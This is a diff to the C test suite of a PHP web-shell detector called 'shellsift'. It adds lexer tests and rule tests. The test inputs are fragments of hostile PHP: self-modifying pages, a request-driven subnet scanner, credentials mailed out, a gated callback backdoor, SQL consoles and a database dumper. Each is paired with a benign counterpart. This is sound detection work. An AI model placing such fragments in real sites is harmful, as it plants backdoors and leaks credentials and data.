@@ -144,6 +144,12 @@ static void test_lex_php(void) {
   CHECK_STREQ(lex("PHP", "<?php a<=>b<<=c?->d**e**=f...g<>h::i"),
               "I:a O:<=> I:b O:<<= I:c O:?-> I:d O:* O:* I:e O:**= I:f O:... I:g O:<> I:h O::: I:i");
   CHECK_STREQ(lex("PHP", "<?php Ab_9\xc3\x89Z(\t\r\n 12)"), "I:ab_9\xc3\x89z O:( N:12 O:)");
+  /* a base64 run quoted inside a string of the same quote (a damaged copy) stays in the
+   * string; a closing quote followed by a short word ("x"or) is valid PHP and closes it */
+  CHECK_STREQ(lex("PHP", "<?php $x = \"e(d(\"QUJD" "QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJD\"));\";"),
+              "V:$x O:= S:e(d(\"QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJD\")); E:;");
+  CHECK_STREQ(lex("PHP", "<?php $m == \"list\"or die(\"QUJD\");"),
+              "V:$m O:== S:list I:or I:die O:( S:QUJD O:) E:;");
 }
 
 static void test_lex_pages(void) {
@@ -503,6 +509,57 @@ static void test_php_tools(void) {
   CHECK(d && strcmp(d->rule, "shellsift.lang.mass-defacer") == 0 && d->score < 70);
   CHECK(!analyze("PHP", "<?php $x = $_GET['x']; foreach (scandir('/srv/d') as $d) file_put_contents(\"/srv/d/$d/index.html\", '');"));
   CHECK(!analyze("PHP", "<?php $q = $_GET['q'] ?? 'x'; mysql_query(\"SELECT 1 FROM t WHERE a = '\" . mysql_real_escape_string($q) . \"'\");"));
+  /* a page that writes into its own source; a data file written beside a read of itself is not */
+  d = analyze("PHP", "<?php $t = addslashes($_POST['m']); $f = fopen(__FILE__, 'a'); fputs($f, $t); fclose($f);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.self-modify") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $t = addslashes($_POST['m']); $f = fopen('book.txt', 'a'); fwrite($f, $t); "
+                        "$s = fopen(__FILE__, 'r'); echo fgets($s);"));
+  CHECK(!analyze("PHP", "<?php $f = __FILE__; file_put_contents($f . '.lock', $_POST['x']);")); /* beside it */
+  /* a loop over the /24 the request names; a loop over this site's numbered pages */
+  d = analyze("PHP", "<?php $n = $_GET['n']; for ($i = 1; $i <= 254; $i++) { $u = 'http://' . $n . $i; $c = curl_init($u); curl_exec($c); }");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.network-scanner") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $h = $_GET['h']; for ($i = 0; $i < 256; $i++) { $p = file_get_contents('http://' . $h . '/p/' . $i); }"));
+  /* a login mailed to a free-mail box from where the taint does not reach */
+  d = analyze("PHP", "<?php mail('a.b@gmail.com', 'x', 'u=' . $username . ' p=' . $password); echo $_GET['q'];");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && strstr(d->description, "$password"));
+  /* drive letters probed beside a request-chosen listing; a fixed folder's listing */
+  d = analyze("PHP", "<?php foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l; $d = opendir($_GET['d']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.folder-browser") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l; $d = opendir('/srv'); echo $_GET['x'];"));
+  /* content asked of a raw public IP with this site's name; a private address is the site's own service */
+  d = analyze("PHP", "<?php echo file_get_contents('http://203.0.113.9/g?h=' . $_SERVER['HTTP_HOST']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.remote-content") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php echo file_get_contents('http://10.0.0.9/g?h=' . $_SERVER['HTTP_HOST']);"));
+  /* request input through an undefined callback behind a password hash; the same with the file's own helper */
+  d = analyze("PHP", "<?php if (md5($_GET['k']) == '0cc175b9c0f1b6a831c399e269772661') array_map('zq_run', (array)$_GET['c']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.gated-callback") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php function zq_run($v) { return trim($v); } if (md5($_GET['k']) == "
+                        "'0cc175b9c0f1b6a831c399e269772661') array_map('zq_run', (array)$_GET['c']);"));
+}
+
+/* PHP database consoles and dump tools: dual-use, so medium however many
+ * statements a file runs; ->query() only of a file that opens a database. */
+static void test_php_db_tools(void) {
+  analyze("PHP", "<?php $db = new mysqli('h', 'u', 'p'); $db->query($_POST['a']); $db->query($_POST['b']);\n"
+                 "$db->multi_query($_GET['c']);\n$db->exec($_REQUEST['d']);\nmysql_query($_POST['e']);");
+  size_t consoles = 0;
+  for (size_t k = 0; k < res.ndet; k++) {
+    CHECK(res.det[k].score < 70);
+    consoles += strcmp(res.det[k].rule, "shellsift.lang.sql-console") == 0;
+  }
+  CHECK(consoles == 1); /* one sentence, one reason */
+  CHECK(!analyze("PHP", "<?php $r = new Net_DNS2_Resolver(); $r->query($_GET['host'], 'PTR');"));
+  const lang_detection *d = analyze("PHP", "<?php function run($s) { return mysql_query($s); }\nrun($_POST['sql']);");
+  CHECK(d && strstr(d->description, "mysql_query() (inside run())"));
+  d = analyze("PHP", "<?php $p = new PDO('x'); $s = 'SELECT ' . $_GET['f'] . ' FROM ' . $_GET['t'];\n$p->query($s);");
+  CHECK(d && strstr(d->description, "$_GET['f'] and $_GET['t'] choose the columns and the table"));
+  CHECK(!analyze("PHP", "<?php $p = new PDO('x'); $s = 'SELECT a FROM t ORDER BY ' . $_GET['o']; $p->query($s);"));
+  d = analyze("PHP", "<?php $r = mysql_query('SHOW TABLES'); while ($t = mysql_fetch_row($r)) {\n"
+                     "$q = mysql_query(\"SELECT * FROM `$t[0]`\"); }\nfile_put_contents('d.sql', $o);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.db-dump") == 0 && d->score < 70 && strstr(d->description, "line 2"));
+  /* the tables listed, but no table copied: an upgrade check */
+  CHECK(!analyze("PHP", "<?php $r = mysql_query('SHOW TABLES'); $n = mysql_query('SELECT * FROM users');"
+                        " file_put_contents('log', 'x');"));
 }
 
 int main(void) {
@@ -522,6 +579,7 @@ int main(void) {
   RUN(test_prefilter_and_stats);
   RUN(test_combined_score);
   RUN(test_php_tools);
+  RUN(test_php_db_tools);
   lang_ctx_free(ctx);
   TEST_END();
 }
